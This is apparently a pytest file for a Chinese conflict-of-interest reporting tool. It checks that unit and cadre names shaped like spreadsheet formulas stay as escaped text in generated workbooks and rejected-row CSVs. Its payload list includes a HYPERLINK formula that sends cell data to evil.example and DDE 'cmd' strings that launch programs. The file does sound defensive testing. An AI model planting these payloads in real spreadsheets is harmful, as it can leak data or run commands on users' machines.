"""Formula injection: nothing an import brings in reaches a spreadsheet as a formula.

Hostile names go in through the importers (they are valid names), then come out in every
spreadsheet the project writes — the 报告表 template, the year-end assessment and the
rejected-row CSVs — as text, never as a formula. Numbers stay numbers.
"""

from __future__ import annotations

import csv
import zipfile
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from qinglian.exchange.safe_cells import FORMULA_STARTS, set_cell, spreadsheet_text
from tests.factories import (
    CADRES,
    FB,
    LYG,
    MOH,
    UNITS,
    Qinglian,
    assert_one_error,
    write_cadres,
    write_units,
)

# The payloads of the adversarial test, and one per character OWASP lists.
FORMULAS = (
    '=HYPERLINK("http://evil.example/x?d="&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
)
AS_OF = "2012-12-31"


# --- the shared helper, as a table ---------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        *((formula, "'" + formula) for formula in FORMULAS),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("@", "'@"),
        ("连云港市妇幼保健院", "连云港市妇幼保健院"),
        ("A=1", "A=1"),
        ("", ""),
        ("-5", "-5"),  # a number written as text is not a formula
        ("+3.5", "+3.5"),
        (-5, -5),
        (-1.5e-05, -1.5e-05),
        (0, 0),
        (date(2012, 8, 9), date(2012, 8, 9)),
        (None, None),
    ],
)
def test_spreadsheet_text(value: Any, expected: Any) -> None:
    assert spreadsheet_text(value) == expected
    assert type(spreadsheet_text(value)) is type(expected)


@pytest.mark.parametrize(
    ("value", "data_type", "quoted"),
    [
        *((formula, "s", True) for formula in FORMULAS),
        ("\t=1+1", "s", True),
        ("连云港市妇幼保健院", "s", False),
        ("-5", "s", False),
        (-5, "n", False),
        (-2.5, "n", False),
        (True, "b", False),
        (datetime(2012, 8, 9, 10, 30), "d", False),
    ],
)
def test_xlsx_cells_are_never_formulas(
    tmp_path: Path, value: Any, data_type: str, quoted: bool
) -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    set_cell(sheet, 1, 1, value)
    workbook.save(tmp_path / "x.xlsx")
    assert "<f>" not in _sheet_xml(tmp_path / "x.xlsx")
    cell = load_workbook(tmp_path / "x.xlsx").active["A1"]  # type: ignore[index]
    assert cell.data_type == data_type
    assert cell.value == value
    assert cell.quotePrefix is quoted


def test_control_characters_do_not_break_a_workbook(tmp_path: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    set_cell(sheet, 1, 1, "旧数据\x01")
    workbook.save(tmp_path / "x.xlsx")
    assert load_workbook(tmp_path / "x.xlsx").active["A1"].value == "旧数据\ufffd"  # type: ignore[index]


# --- end to end: hostile names through the importers into every file written ---------------


def _hostile_units() -> list[dict[str, Any]]:
    """The seed tree, 连妇保 renamed to a formula, plus one hospital named after each formula."""
    units = [dict(unit) for unit in UNITS]
    for unit in units:
        if unit["单位编码"] == FB:
            unit["单位名称"] = FORMULAS[0]
            unit["简称"] = FORMULAS[1]
    units += [
        {
            "单位编码": f"EVIL-{index}",
            "单位名称": formula,
            "层级": "单位",
            "类型": "公立医疗卫生单位",
            "上级单位编码": LYG,
            "负责人": formula,
        }
        for index, formula in enumerate(FORMULAS)
    ]
    return units


def _hostile_cadres() -> list[dict[str, Any]]:
    cadres = [dict(cadre) for cadre in CADRES]
    cadres += [
        {"工号": f"EV{index:03d}", "姓名": formula, "单位编码": FB, "职务": formula, "适用类别": 3}
        for index, formula in enumerate(FORMULAS)
    ]
    return cadres


@pytest.fixture
def hostile(cli: Qinglian, tmp_path: Path) -> Qinglian:
    """A campaign on a tree whose names are formulas: the importers accept them as names."""
    cli.ok("units", "import", write_units(tmp_path / "units.csv", _hostile_units()))
    cli.ok("cadres", "import", write_cadres(tmp_path / "cadres.csv", _hostile_cadres()))
    cli.ok("campaign", "launch", "--template", "coi-2012", "--root", MOH)
    return cli


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return "".join(
            archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/sheet")
        )


def _text_cells(path: Path) -> dict[str, Any]:
    """Every non-empty cell of every sheet, by sheet!coordinate; no cell may be a formula."""
    assert "<f>" not in _sheet_xml(path) and "<f " not in _sheet_xml(path)
    cells: dict[str, Any] = {}
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value[:1] in FORMULA_STARTS:
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
                cells[f"{sheet.title}!{cell.coordinate}"] = cell
    return cells


def test_the_form_template_keeps_formula_names_as_text(hostile: Qinglian, tmp_path: Path) -> None:
    out = tmp_path / "模板.xlsx"
    hostile.ok("forms", "template", FB, "--out", out, "--campaign", "1")
    cells = _text_cells(out)
    values = {cell.value for cell in cells.values()}
    assert set(FORMULAS) <= values  # cadre names and posts, unchanged text
    categories = [cell for key, cell in cells.items() if key.startswith("基本情况!E")][1:]
    assert categories and all(cell.data_type == "n" for cell in categories)  # numbers stay


def test_the_filled_template_imports_back(hostile: Qinglian, tmp_path: Path) -> None:
    """The quote prefix is a style, not a character: the names read back as the register's.

    (Names starting with ``=`` are left out: the form importer refuses any ``=…`` cell as a
    formula, whatever the register says.)
    """
    out = tmp_path / "模板.xlsx"
    hostile.ok("forms", "template", FB, "--out", out, "--campaign", "1")
    workbook = load_workbook(out)
    basics = workbook["基本情况"]
    headers = [cell.value for cell in basics[1]]
    nothing, name = headers.index("无报告事项") + 1, headers.index("姓名") + 1
    filled = 0
    for row in range(basics.max_row, 1, -1):
        if str(basics.cell(row, name).value or "").startswith("="):
            basics.delete_rows(row)
    for row in range(2, basics.max_row + 1):
        if basics.cell(row, 1).value:
            basics.cell(row, nothing, "是")
            filled += 1
    workbook.save(out)
    result = hostile.ok("forms", "import", out, "--campaign", "1", "--as-of", "2012-08-01")
    assert filled == len(CADRES[1:4]) + 3  # 3 seed cadres of 连妇保 and the +, - and @ names
    assert f"新增 {filled}" in result.stdout, result.stdout


def test_the_assessment_keeps_formula_names_as_text(hostile: Qinglian, tmp_path: Path) -> None:
    out = tmp_path / "考核.xlsx"
    hostile.ok("inspect", "assessment", "1", "--out", out, "--as-of", AS_OF)
    cells = _text_cells(out)
    names = {cell.value for key, cell in cells.items() if key.startswith("年终考核!B")}
    assert set(FORMULAS) <= names
    scores = [cell for key, cell in cells.items() if key.startswith("年终考核!K")][1:]
    assert scores and all(cell.data_type == "n" for cell in scores)


def _rejected_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    for row in rows:
        for cell in row:
            # An escaped cell starts with the quote; nothing else starts with a formula sign,
            # except a plain number.
            assert cell[:1] not in FORMULA_STARTS or cell.lstrip("+-").replace(".", "").isdigit()
    return rows


@pytest.mark.parametrize("formula", FORMULAS)
def test_rejected_units_are_escaped(cli: Qinglian, tmp_path: Path, formula: str) -> None:
    bad = {"单位编码": "BAD", "单位名称": formula, "层级": "不存在", "类型": formula}
    source = write_units(tmp_path / "units.csv", [*UNITS, bad])
    result = cli.ok("units", "import", source, "--skip-invalid")
    assert f"新增 {len(UNITS)}" in result.stdout
    rows = _rejected_cells(tmp_path / "units.rejected.csv")
    assert rows[1][:2] == ["BAD", "'" + formula]
    assert rows[1][4] == "'" + formula


def test_rejected_cadres_are_escaped_and_numbers_stay(cli: Qinglian, tmp_path: Path) -> None:
    cli.ok("units", "import", write_units(tmp_path / "units.csv"))
    bad = [
        {"工号": "X1", "姓名": formula, "单位编码": "NOPE", "职务": formula, "适用类别": -3}
        for formula in FORMULAS
    ]
    source = write_cadres(tmp_path / "cadres.csv", [*CADRES, *bad])
    cli.ok("cadres", "import", source, "--skip-invalid")
    rows = _rejected_cells(tmp_path / "cadres.rejected.csv")
    assert [row[1] for row in rows[1:]] == ["'" + formula for formula in FORMULAS]
    assert [row[3] for row in rows[1:]] == ["'" + formula for formula in FORMULAS]
    assert {row[5] for row in rows[1:]} == {"-3"}  # a negative number, not escaped


def test_rejected_form_rows_are_escaped(hostile: Qinglian, tmp_path: Path) -> None:
    out = tmp_path / "模板.xlsx"
    hostile.ok("forms", "template", FB, "--out", out, "--campaign", "1")
    workbook = load_workbook(out)
    relatives = workbook["亲属从业"]
    for column, value in enumerate(["FB001", "施庆喜", FORMULAS[1], "不是关系", FORMULAS[0]], 1):
        relatives.cell(2, column).value = value
    workbook.save(out)
    hostile.ok("forms", "import", out, "--campaign", "1", "--as-of", "2012-08-01", "--skip-invalid")
    rows = _rejected_cells(tmp_path / "模板.rejected.csv")
    cells = {cell for row in rows for cell in row}
    assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[1] in cells


# --- a rejected-rows file that cannot be written --------------------------------------------


@pytest.mark.parametrize("what", ["units", "cadres"])
def test_skip_invalid_with_a_directory_in_the_way(cli: Qinglian, tmp_path: Path, what: str) -> None:
    cli.ok("db", "upgrade")
    if what == "units":
        source = write_units(tmp_path / "in.csv", [*UNITS, {"单位编码": "BAD", "层级": "?"}])
    else:
        cli.ok("units", "import", write_units(tmp_path / "units.csv"))
        source = write_cadres(tmp_path / "in.csv", [*CADRES, {"工号": "X", "姓名": "某"}])
    (tmp_path / "in.rejected.csv").mkdir()
    before = cli.counts()
    line = assert_one_error(cli(what, "import", source, "--skip-invalid"))
    assert "in.rejected.csv" in line and "目录" in line and "directory" in line
    assert cli.counts() == before
    assert list((tmp_path / "in.rejected.csv").iterdir()) == []
    assert sorted(path.name for path in tmp_path.glob("*.tmp")) == []


def test_skip_invalid_forms_with_a_directory_in_the_way(hostile: Qinglian, tmp_path: Path) -> None:
    out = tmp_path / "模板.xlsx"
    hostile.ok("forms", "template", FB, "--out", out, "--campaign", "1")
    workbook = load_workbook(out)
    workbook["基本情况"].cell(2, workbook["基本情况"].max_column).value = "不是日期"
    workbook.save(out)
    (tmp_path / "模板.rejected.csv").mkdir()
    before = hostile.counts()
    args = ("forms", "import", out, "--campaign", "1", "--as-of", "2012-08-01", "--skip-invalid")
    line = assert_one_error(hostile(*args))
    assert "目录" in line and "directory" in line
    assert hostile.counts() == before
